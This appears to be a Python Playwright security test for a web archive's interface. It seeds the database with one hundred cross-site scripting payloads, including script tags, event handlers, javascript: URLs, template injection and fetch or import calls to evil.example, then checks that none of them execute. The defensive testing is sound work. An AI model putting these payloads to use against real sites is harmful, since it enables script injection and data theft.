"""What strangers wrote is shown as they wrote it, and never runs: one hundred ways to try, in eight fields."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from process.harness import Archive
from web.browser.visitor import served, visitor
from web.visiting import archived

pytestmark = pytest.mark.slow

_RUNS = (
    "alert(1)",
    "top.alert(1)",
    "window['al'+'ert'](1)",
    "setTimeout('alert(1)')",
    "fetch('https://evil.example/')",
)
_SHAPES = (
    "<script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT><b onmouseover={}>",
    '"><img src=x onerror={}>',
    "'><svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "javascript:{}//",
    '" onmouseover="{}" x="',
    "' autofocus onfocus='{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    '<a hx-on:load="{}" hx-get=/live hx-trigger=load>x</a>',
    "<div data-hx-get=https://evil.example/ hx-trigger=load hx-vals='js:{{x:{}}}'>",
    "\u202e<style>@import 'https://evil.example/'</style><math><mi xlink:href=\"javascript:{}\">",
    "<template><s><script>{}</script></template>\u2028<base href=https://evil.example/>",
)
PAYLOADS = [shape.format(run) for shape in _SHAPES for run in _RUNS]


def _poisoned(archive: Archive) -> list[str]:
    """Write each payload into the title, handle, name, region, tag, source, reason and detail that people see."""
    posts = archive.ids("archived")
    for at, payload in enumerate(PAYLOADS):
        aweme_id = posts[at % len(posts)]
        if at < len(posts):
            archive.change(
                "UPDATE posts SET title = ?, author_handle = ?, author_nickname = ?, region = ?, music_id = ? "
                "WHERE aweme_id = ?",
                *[payload] * 5,
                aweme_id,
            )
        told = (f"{at:05d}", payload, payload)
        times = ("2026-05-30T00:00:00.000Z", "2026-05-30T00:00:00.000Z")
        archive.change(
            "INSERT INTO authors (author_id, handle, nickname, first_seen_at, last_seen_at) VALUES (?, ?, ?, ?, ?)",
            *told,
            *times,
        )
        archive.change("INSERT OR IGNORE INTO hashtags (aweme_id, tag) VALUES (?, ?)", aweme_id, payload)
        archive.change("UPDATE sources SET last_reason = 'bad_reply', last_detail = ? WHERE source = '#cats'", payload)
        archive.change(
            "INSERT INTO holds (kind, subject, reason, who, placed_at) VALUES ('source', ?, ?, ?, ?)",
            payload,
            payload,
            payload,
            times[0],
        )
    for at, aweme_id in enumerate(archive.ids("dead")):
        archive.change(
            "UPDATE dead_letters SET detail = ?, source = ? WHERE aweme_id = ?",
            "\n".join(PAYLOADS[at::3]),
            PAYLOADS[at],
            aweme_id,
        )
    return posts


def test_nothing_that_a_stranger_wrote_runs(chrome: Browser, tmp_path: Path) -> None:
    """No dialog, no policy report, no request to another place, no script error; the words themselves are shown."""
    archive = Archive(archived(tmp_path / "archive"))
    posts = _poisoned(archive)
    lists = ["/", "/gallery", "/search?q=is:video", "/authors", "/authors?after=00049", "/tags"]
    lists += ["/sources", "/queue", "/gone", "/budget", "/system", "/removals"]
    with served(archive) as base, visitor(chrome, base) as here:
        for path in lists + [f"/posts/{each}" for each in posts[:: max(len(posts) // 8, 1)]]:
            page = here.go(path)
            page.evaluate("() => document.querySelectorAll('details').forEach((each) => { each.open = true; })")
            assert page.evaluate(_FOREIGN) == [], path
        shown = here.go("/removals").locator("td").all_text_contents()
        assert [payload for payload in PAYLOADS if not any(payload in each for each in shown)] == []
        for payload in PAYLOADS:
            page.evaluate("(q) => fetch('/search?q=' + encodeURIComponent(q))", payload)
        for payload in PAYLOADS[::10]:
            page.goto(f"{base}/search?{_query(payload)}")
            assert page.evaluate(_FOREIGN) == [], payload
            page.goto(f"{base}/?done=x&n={_quoted(payload)}")
        assert [each for each in here.complaints if "400 (Bad Request)" not in each] == []


_FOREIGN = """() => [...document.querySelectorAll('*')]
    .filter((each) => each.matches('iframe, base, math, animate, style, template, script:not([src^="/static/"])')
        || [...each.attributes].some((a) => a.name.startsWith('on') || a.name.startsWith('hx-on')
            || (['href', 'src', 'action', 'formaction'].includes(a.name) && /^\\s*javascript:/i.test(a.value))))
    .map((each) => each.outerHTML.slice(0, 120))"""


def _query(text: str) -> str:
    return f"q={_quoted(text)}"


def _quoted(text: str) -> str:
    return quote(text, safe="")
